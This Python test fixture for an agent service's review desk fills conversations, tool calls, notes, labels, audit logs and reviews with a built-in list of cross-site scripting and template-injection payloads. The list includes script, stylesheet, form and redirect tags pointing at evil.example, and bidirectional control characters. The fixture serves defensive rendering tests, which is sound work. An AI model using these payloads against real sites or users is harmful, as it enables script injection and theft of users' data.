"""A desk on which everything there is to see holds text that wants to be more than text."""

from itertools import product
from typing import Any, Final

from desk_visitor import add_people
from sqlalchemy import select, update
from tool_desk import ToolDesk
from workshop import Job

from agent_service.conversation.records import Caller, CallerLevel, RatingRecord, Role
from agent_service.settings.reviews import ReviewSettings
from agent_service.store.auditing import audit
from agent_service.store.reviews.sampling import Drawn, Rule, enqueue
from agent_service.store.reviews.scoring import give_review
from agent_service.store.switches import switch_tool
from agent_service.store.tables import Conversation
from agent_service.store.views import save_view
from agent_service.store.work.labels import make_label, put_label
from agent_service.store.work.notes import write_note
from agent_service.store.work.standing import Change, change_work
from agent_service.store.work.tables import LabelColour
from agent_service.store.writer import write_records

BREAKOUTS: Final = ("", '">', "'>", "</script>", "</title>", "</textarea>", "-->", "]]>", "</p>")
DEEDS: Final = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example/><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "<div style=background:url(//evil.example/x.png)>x</div>",
    "<div hidden dir=rtl id=content>x</div>",
    "<dialog open>x</dialog>",
    "<time datetime=x onmouseover=alert(1)>x</time>",
    "onmouseover=alert(1) x=",
    "javascript:alert(1)",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ member.form_token }}{% endraw %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<b>\u2066\u200f\u0600",
)
PAYLOADS: Final = tuple(before + deed for before, deed in product(BREAKOUTS, DEEDS))
FORM: Final = ReviewSettings().criteria
LONG_NAME: Final = "N\u0301ame " * 2_000
"""Of 10 kB and more."""


def fill(desk: ToolDesk, new_sample: Any) -> str:
    """Put all of it on record; return the conversation that holds every payload."""
    add_people(desk.database, desk.clock)
    sample = new_sample()
    caller = Caller("ACME-77", PAYLOADS[0], CallerLevel.VERIFIED)
    records = [sample.conversation(caller=caller)]
    records += [
        sample.turn(seq, text=text, heard_text=text[: len(text) // 2])
        for seq, text in enumerate(PAYLOADS, 1)
    ]
    records += [
        sample.turn(number, role=Role.SYSTEM, text=text, flags=("whisper",), started_ms=900)
        for number, text in enumerate(DEEDS, len(PAYLOADS) + 1)
    ]
    records += [
        sample.tool_call(tool_call_id=f"call_{number}", arguments=text, output=text)
        for number, text in enumerate(DEEDS)
    ]
    records += [sample.confirmation(summary=text, answer=text) for text in DEEDS]
    records += [sample.incident(message=text) for text in DEEDS]
    now = desk.clock.utc()
    with desk.database.write() as session:
        write_records(session, records)
        rating = RatingRecord(sample.conversation_id, 1, DEEDS[2], now)
        write_records(session, [rating])
    others = []
    for text in (*DEEDS, LONG_NAME):
        other = new_sample()
        others.append(other.conversation(caller=Caller(text[:100], text, CallerLevel.IDENTIFIED)))
        others.append(other.turn(1, text=text))
    with desk.database.write() as session:
        write_records(session, others)
        session.execute(update(Conversation).values(ended_at=now, end_reason="caller_ended"))
        session.get_one(Job, 1002).paid_minor = 150_00
        for number, text in enumerate(DEEDS):
            name = "".join(each for each in text if each.isprintable() and each != "/")[:80]
            save_view(session, name, "conversations", "channel=phone", saved_by="user:ada", now=now)
            audit(session, "user:ada", "sign_in.opened", now, subject=text, detail={"x": text})
            assert number < 200
        switch_tool(
            session, "cancel_job", is_off=True, reason=DEEDS[2], changed_by="user:ada", now=now
        )
    desk.call("pay_back", {"job": 1002, "reason": DEEDS[2]})
    with desk.database.write() as session:
        id = sample.conversation_id
        change_work(session, id, Change(assignee="sam"), 0, now, by="user:sam")
        for text in DEEDS:
            write_note(session, id, text, now, by="user:ada")
            name = "".join(each for each in text if each.isprintable() and each not in "/,")[:40]
            make_label(session, name, LabelColour.RED, now, by="user:ada")
            put_label(session, id, name, now, by="user:ada")
        rule = Rule(question=f"customer__not={DEEDS[2]}", share=1.0, seed=DEEDS[2], reviewers=1)
        enqueue(session, rule, Drawn(1, [id]), now, by="user:ada")
        scores = dict.fromkeys((one.name for one in FORM), 1)
        give_review(session, id, scores, DEEDS[2], 0, now, by="user:ada", criteria=FORM)
    for text in DEEDS:
        speaker = Caller("ACME-77", text, CallerLevel.VERIFIED)
        desk.call("hand_over_to_human", {"reason": text}, caller=speaker)
    with desk.database.read() as session:
        assert session.scalars(select(Conversation.id)).first() is not None
    return str(sample.conversation_id)
